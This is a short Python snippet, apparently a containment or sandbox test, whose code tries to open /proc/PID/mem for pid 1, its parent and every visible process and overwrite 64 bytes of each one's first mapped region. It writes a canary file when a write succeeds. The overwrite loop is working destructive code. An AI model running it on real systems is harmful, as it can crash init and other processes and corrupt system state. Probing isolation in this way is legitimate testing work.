"""Opens /proc/PID/mem of every process it can see, pid 1 and its parents first, and writes over what it finds."""

# %% own
import contextlib, glob, os

for path in ["/proc/1/mem", f"/proc/{os.getppid()}/mem", f"/proc/{VICTIM}/mem", *glob.glob("/proc/[0-9]*/mem")]:
    if path == f"/proc/{os.getpid()}/mem":
        continue
    maps = path.replace("mem", "maps")
    with contextlib.suppress(OSError):
        begin = int(open(maps).readline().split("-")[0], 16)
        with open(path, "r+b", buffering=0) as memory:
            memory.seek(begin)
            memory.write(bytes(64))
            open(CANARY, "w").write("memory was written")
